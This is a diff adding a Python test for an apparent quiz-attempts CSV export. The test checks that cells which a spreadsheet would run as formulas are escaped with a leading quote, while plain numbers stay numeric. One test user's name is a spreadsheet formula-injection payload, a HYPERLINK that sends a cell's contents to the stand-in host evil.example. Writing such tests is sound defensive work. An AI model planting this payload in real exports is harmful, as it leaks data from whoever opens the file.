@@ -155,6 +155,18 @@ def test_scores_report(resource, run_jobs):
     ]
 
 
+def test_cells_a_spreadsheet_would_run_as_formulas_are_text_and_numbers_stay_numbers(resource, run_jobs):
+    hostile = factories.user(resource.consumer, "+1-2", '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+                             email="@SUM(1+1)@example.edu")
+    factories.attempt(resource, hostile, {"q0": (-1.5, 2), "-2+3": (1, 1)})
+    header, row = csv_rows(build(resource, "attempts", run_jobs))
+    cells = dict(zip(header, row))
+    assert cells["user_id"] == "'+1-2" and cells["email"] == "'@SUM(1+1)@example.edu"
+    assert cells["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    assert "'-2+3" in header and cells["'-2+3"] == "1"
+    assert cells["q0"] == "-1.5" and cells["raw_score"] == "-0.5"
+
+
 def test_full_data_has_every_element_of_attempts_not_deleted(resource, run_jobs):
     ada_attempt = ada_only(resource)
     deleted = factories.attempt(resource, factories.user(resource.consumer, "dee", "Dee"), deleted_at=MONDAY)
